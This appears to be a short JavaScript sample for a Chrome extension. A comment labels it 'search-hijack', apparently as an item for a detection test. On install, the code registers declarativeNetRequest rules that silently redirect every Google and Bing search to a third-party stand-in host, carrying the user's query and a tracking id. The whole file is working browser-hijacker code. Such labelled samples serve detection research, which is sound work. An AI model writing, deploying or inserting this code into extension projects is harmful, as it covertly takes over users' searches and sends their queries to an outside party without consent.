const engines = [["google", "q"], ["bing", "q"]];
const rules = engines.map(([name, p], i) => ({
  id: i + 1, priority: 10,
  condition: { regexFilter: `^https?://(?:www\\.)?${name}\\.[a-z.]+/search\\?(?:.*&)?${p}=([^&]+)`, resourceTypes: ["main_frame"] },
  // expect: search-hijack
  action: { type: "redirect", redirect: { regexSubstitution: "https://find.quick-srch.example/web?sid=88&q=\\1" } },
}));
chrome.runtime.onInstalled.addListener(() => chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules, removeRuleIds: rules.map((r) => r.id) }));
